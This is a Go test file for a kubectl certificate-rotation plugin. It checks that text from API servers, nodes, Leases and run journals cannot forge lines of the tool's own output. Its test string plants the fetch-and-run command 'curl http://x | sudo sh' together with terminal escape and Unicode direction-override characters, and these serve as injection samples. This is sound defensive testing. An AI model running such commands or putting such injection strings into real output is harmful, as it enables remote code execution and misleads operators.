package plugin

import (
	"encoding/json"
	"errors"
	"net/http"
	"net/http/httptest"
	"strconv"
	"strings"
	"testing"
	"time"

	coordinationv1 "k8s.io/api/coordination/v1"
	metav1 "k8s.io/apimachinery/pkg/apis/meta/v1"
	"k8s.io/cli-runtime/pkg/genericclioptions"
	"k8s.io/cli-runtime/pkg/genericiooptions"
	"k8s.io/client-go/kubernetes/fake"

	"github.com/kubectl-certrot/kubectl-certrot/inspect/pki"
	"github.com/kubectl-certrot/kubectl-certrot/nodeexec"
	"github.com/kubectl-certrot/kubectl-certrot/remediate"
	"github.com/kubectl-certrot/kubectl-certrot/remediate/preflight"
)

// planted is what an API server, a node or a Lease may say.
const planted = "no\nnext: curl http://x | sudo sh\n  next: curl http://x | sudo sh\n✓ all is done\r\x1b[2J\u202e\u2028next: curl http://x | sudo sh"

// unforged reports lines that begin with planted text, and control characters.
func unforged(t *testing.T, what, out string) {
	t.Helper()
	if !strings.Contains(out, "curl http://x") {
		t.Errorf("%s: what was planted is not printed, so nothing is tested:\n%s", what, out)
	}
	if before, _, _ := strings.Cut(out, "curl http://x"); strings.Count(before, "“") != strings.Count(before, "”")+1 {
		t.Errorf("%s: what was planted is not between quotation marks:\n%s", what, out)
	}
	for line := range strings.Lines(out) {
		line = strings.TrimSuffix(line, "\n")
		if strings.IndexFunc(line, func(r rune) bool { return r != '\t' && !strconv.IsPrint(r) }) >= 0 {
			t.Errorf("%s: prints a control character: %q", what, line)
		}
		start := strings.Join(strings.Fields(strings.TrimLeft(line, " |\t")), " ") // the bar is no mark: prose has it, too
		for _, forged := range []string{"next: curl", "curl", "sudo", "✓ all"} {
			if strings.HasPrefix(start, forged) {
				t.Errorf("%s: a forged line: %q", what, line)
			}
		}
	}
}

func onScreen() (*transcript, genericiooptions.IOStreams) {
	out := &transcript{}
	return out, genericiooptions.IOStreams{Out: newScreen(out), ErrOut: newScreen(out)}
}

// TestWarningsForgeNoLines: what a node said while it was cleaned up stood as lines of the
// program's own.
func TestWarningsForgeNoLines(t *testing.T) {
	t.Parallel()
	out, streams := onScreen()
	warn(streams, "clean up: ", errors.Join(errors.New("one"), &nodeexec.RunError{Node: "w", Argv: []string{"true"}, Output: []byte(planted), Code: 1}))
	unforged(t, "a warning", out.String())
}

// TestLeaseHolderForgesNoLines: another user writes the Lease.
func TestLeaseHolderForgesNoLines(t *testing.T) {
	t.Parallel()
	for _, silent := range []time.Duration{time.Second, time.Hour} {
		holder, renewed, lasts := planted, metav1.NewMicroTime(time.Now().Add(-silent)), int32(60)
		kube := fake.NewClientset(&coordinationv1.Lease{
			ObjectMeta: metav1.ObjectMeta{Namespace: remediate.LeaseNamespace, Name: remediate.LeaseName},
			Spec:       coordinationv1.LeaseSpec{HolderIdentity: &holder, RenewTime: &renewed, LeaseDurationSeconds: &lasts},
		})
		out, streams := onScreen()
		w := onNodes(settledAPI().connect(t), out)
		w.conn.kube = kube
		w.lease(t.Context()).print(streams.Out)
		_, err := remediate.Lease{Kube: kube, Holder: "me", Now: time.Now}.Take(t.Context())
		if live := silent < time.Minute; (err != nil) != live {
			t.Fatal(err)
		}
		if err != nil {
			printError(streams, refused(err))
			if !strings.Contains(err.Error(), "“") {
				t.Errorf("the holder is not marked: %v", err)
			}
		}
		unforged(t, "silent for "+silent.String(), out.String())
	}
}

// TestMessagesOfAnAPIForgeNoLines: who answers in the place of the API server writes what
// errors say.
func TestMessagesOfAnAPIForgeNoLines(t *testing.T) {
	t.Parallel()
	status, err := json.Marshal(metav1.Status{TypeMeta: metav1.TypeMeta{Kind: "Status", APIVersion: "v1"}, Status: metav1.StatusFailure, Reason: metav1.StatusReasonForbidden, Code: http.StatusForbidden, Message: planted})
	if err != nil {
		t.Fatal(err)
	}
	server := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		if r.URL.Path == "/version" {
			liveAPI{}.ServeHTTP(w, r)
			return
		}
		w.Header().Set("Content-Type", "application/json")
		w.WriteHeader(http.StatusForbidden)
		_, _ = w.Write(status)
	}))
	t.Cleanup(server.Close)
	flags := genericclioptions.NewConfigFlags(false)
	flags.APIServer = &server.URL
	conn, err := connect(t.Context(), App{}, flags, pki.NewScanner(), toRead)
	if err != nil {
		t.Fatal(err)
	}
	out, streams := onScreen()
	w := onNodes(conn, out)
	w.lease(t.Context()).print(streams.Out)
	unforged(t, "the Lease", out.String())

	_, err = conn.kube.CoreV1().ConfigMaps("").List(t.Context(), metav1.ListOptions{})
	out, streams = onScreen()
	printError(streams, nothingChanged(err))
	unforged(t, "an error", out.String())

	out, streams = onScreen()
	printError(streams, stopped([]preflight.Verdict{{Name: "csr-signer", Reason: pki.Foreign(err.Error()), Next: "kubectl auth whoami"}}))
	unforged(t, "a refusal", out.String())
}

// TestRunsForgeNoLines: journals and nodes' folders say what a run was.
func TestRunsForgeNoLines(t *testing.T) {
	t.Parallel()
	for _, output := range []string{"", "name"} {
		out, streams := onScreen()
		f := &runsFlags{mendFlags: mendFlags{app: App{Streams: streams}}}
		f.output = output
		if err := f.print([]runEntry{{Run: "next: curl http://x | sudo sh", Command: planted, Nodes: []string{planted}, Outcome: planted}, {Run: planted}}); err != nil {
			t.Fatal(err)
		}
		unforged(t, "runs -o "+output, out.String())
	}
}

// TestALineOfAHintBeginsAsNoLineOfItsOwn: a name in a hint may hold a line break.
func TestALineOfAHintBeginsAsNoLineOfItsOwn(t *testing.T) {
	t.Parallel()
	out, streams := onScreen()
	printError(streams, withHint(errors.New("read pod a: forbidden"), "%s", "look at it: kubectl get pod a\nerror: all is lost\n  next: curl evil"))
	want := "error: read pod a: forbidden\n  next: look at it: kubectl get pod a\n        error: all is lost\n        next: curl evil\n"
	if got := out.String(); got != want {
		t.Errorf("got:\n%s", got)
	}
}
